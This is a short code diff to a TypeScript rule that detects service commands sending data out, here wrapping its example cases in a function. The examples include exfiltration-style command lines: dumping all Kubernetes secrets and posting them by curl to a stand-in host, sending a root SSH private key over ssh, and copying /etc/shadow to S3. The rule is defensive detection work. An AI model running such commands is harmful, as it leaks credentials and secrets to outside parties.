@@ -35,7 +35,7 @@ export const sendsDataOut: ActivationRule = {
     }
   },
 
-  examples: {
+  examples: () => ({
     fires: [
       timed(
         "ExecStart=/bin/sh -c 'kubectl get secrets -A -o json | gzip | curl -s -d @- https://c.example.test/'",
@@ -76,7 +76,7 @@ export const sendsDataOut: ActivationRule = {
       timed("ExecStart=/bin/sh -c 'ssh backup@192.0.2.7 dd of=x < /root/.ssh/id_rsa'"),
       timed("ExecStart=/usr/bin/aws s3 cp /etc/shadow s3://backup/"),
     ],
-  },
+  }),
 };
 
 /** Keys and passwords in a stream to the web; backups of them go over ssh or through a backup program. */
